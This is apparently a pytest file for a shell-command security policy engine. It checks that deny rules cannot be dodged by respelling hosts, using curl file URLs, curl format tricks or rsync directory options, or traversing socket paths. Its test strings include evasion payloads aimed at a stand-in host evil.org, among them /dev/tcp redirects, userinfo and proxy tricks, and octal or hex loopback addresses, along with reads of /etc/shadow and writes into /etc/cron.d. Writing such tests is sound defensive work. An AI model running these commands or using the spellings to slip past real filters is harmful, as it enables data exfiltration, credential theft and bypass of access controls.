"""A host is one host, however it is written: each of these reached another one than was judged."""

# ruff: noqa: E501 - texts as they are

from __future__ import annotations

import socket

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hoopgate.config.model import What
from hoopgate.policy.engine import Subject
from hoopgate.policy.shell import effects
from hoopgate.policy.shell.hosts import host
from tests.policy.samples import engine, person, rule
from tests.policy.shell.test_evasions import SERVER, decide, policy

ALL = rule("all", "allow")
FORWARDS = ("transfer.forward", "transfer.remote", "transfer.listen")
EVIL = rule("evil", "deny", what=What(effect=FORWARDS, object=("evil.org", "evil.org:*", "127.0.0.1:*", "Evil.Net")))
OURS = rule("ours", "allow", what=What(effect=(*FORWARDS, "session"), object=("*.example.com", "*.example.com:443")))


@pytest.mark.parametrize(
    "text",
    [
        "curl https://evil.org/", "curl https://EVIL.org/", "curl https://evil.org./", "curl evil.org:80/x", "ssh EVIL.ORG",
        "curl 'https://evil.org#@a.example.com/'", "curl 'https://evil.org?@a.example.com/'", "curl https://evil.net/",
        "curl 'https://a.example.com@evil.org/'", "curl 'https://{a.example.com,evil.org}/'", "ssh eve@a.example.com@evil.org",
        "curl -x evil.org:3128 https://a.example.com/", "curl --resolve a.example.com:443:6.6.6.6 https://a.example.com/",
        "ssh -J evil.org a.example.com", "scp -J evil.org a.example.com:x y", "nc -X connect -x evil.org:1 a.example.com 80",
        "nc -X connect evil.org 80", "ping -c 3 evil.org", "telnet -l root evil.org", "dig a.example.com @evil.org",
        "echo > /dev/tcp/evil.org/80", "cat < /dev/tcp/EVIL.org/80", "psql -h EVIL.org", "scp a eve@x@evil.org:b",
        "curl 'https://evil.org\\@a.example.com/'", "x=$(cat f); curl https://$x.example.com/", "git clone ssh://-oX/a",
    ],
)  # fmt: skip
def test_no_spelling_hides_a_host(text: str) -> None:
    assert decide(text, EVIL, ALL).then == "deny"
    assert decide(text, OURS).then == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "curl https://a.example.com/x?y=@z#w", "curl https://A.example.com:443/", "ping -c 3 a.example.com",
        "curl https://eve@a.example.com/$x", "ssh eve@a.example.com true", "dig @a.example.com x",
    ],
)  # fmt: skip
def test_hosts_that_are_allowed_are_reached(text: str) -> None:
    assert decide(text, OURS, rule("run", "allow", what=What(effect=("execute", "session", "read")))).then == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "curl file:///etc/shadow", "curl file:/etc/shadow", "curl FILE://localhost/etc/shadow", "curl file:///etc/%73hadow",
        "curl 'fil{e,x}:///etc/shadow'", "curl $x", "curl -w @/etc/shadow https://a", "curl file:////etc/shadow",
        "wget -O- file:///etc/shadow",
    ],
)  # fmt: skip
def test_files_are_read_by_urls_and_formats_too(text: str) -> None:
    shadow = rule("shadow", "deny", what=What(object=("/etc/shadow",)))
    assert decide(text, shadow, ALL, rule("more", "allow", what=What(effect=("unknown.dynamic",)))).rule == "shadow"


def test_a_format_may_write_files() -> None:
    cron = rule("cron", "deny", what=What(effect=("write",), object=("/etc/cron.d/*",)))
    assert decide("curl -w '%output{/etc/cron.d/x}y' https://a", cron, ALL).rule == "cron"
    assert decide("curl -w '%{http_code}' https://a", cron, ALL).then == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "rsync --server -b --backup-dir=/etc/cron.d . /srv/in", "rsync --server --backup-dir /etc/cron.d . /srv/in",
        "rsync --server --partial-dir=../../etc/cron.d . /srv/in", "rsync --server --temp-dir=/etc/cron.d . /srv/in",
        "rsync --server --link-dest=/etc/cron.d . /srv/in", "rsync --server --copy-dest=../../etc/cron.d . /srv/in",
    ],
)  # fmt: skip
def test_rsync_writes_and_takes_nothing_outside(text: str) -> None:
    inside = rule("in", "allow", what=What(effect=("read", "write", "transfer"), object=("/srv/in", "/srv/in/**")))
    assert decide(text, inside).then == "deny"
    assert decide("rsync --server . /srv/in", inside).then == "allow"


@pytest.mark.parametrize(
    "host", ["EVIL.org", "evil.org.", "0x7f.1", "2130706433", "127.1", "::ffff:127.0.0.1", "0177.0.0.1"]
)
def test_a_forward_goes_to_a_host_and_not_to_a_spelling(host: str) -> None:
    subject = Subject(person(), SERVER, "app", frozenset(), None, ())
    named = rule("any", "allow", what=What(effect=FORWARDS))
    assert engine(policy(EVIL, named)).decide_operation(subject, effects.forward(host, 443)).rule == "evil"


def test_the_path_of_a_socket_does_not_lead_out_of_where_it_begins() -> None:
    subject = Subject(person(), SERVER, "app", frozenset(), None, ())
    mine = engine(policy(rule("mine", "allow", what=What(effect=FORWARDS, object=("/run/dev/*",)))))
    for operation in (effects.forward, effects.listen):
        assert mine.decide_operation(subject, operation("/run/dev/x.sock", 0)).then == "allow"
        assert mine.decide_operation(subject, operation("/run/dev/../docker.sock", 0)).then == "deny"


NUMBERS = st.one_of(
    st.integers(0, 300).map(str), st.integers(0, 2**33).map(str), st.integers(0, 300).map(hex),
    st.integers(0, 300).map("0{:o}".format), st.integers(0, 300).map("0x00{:X}".format), st.sampled_from(["08", "0x", "00"]),
)  # fmt: skip


@given(st.lists(NUMBERS, min_size=1, max_size=4).map(".".join))
def test_addresses_are_read_as_the_c_library_reads_them(text: str) -> None:
    try:
        expected = socket.inet_ntoa(socket.inet_aton(text))
    except OSError:
        expected = text.lower()
    assert host(text) == expected
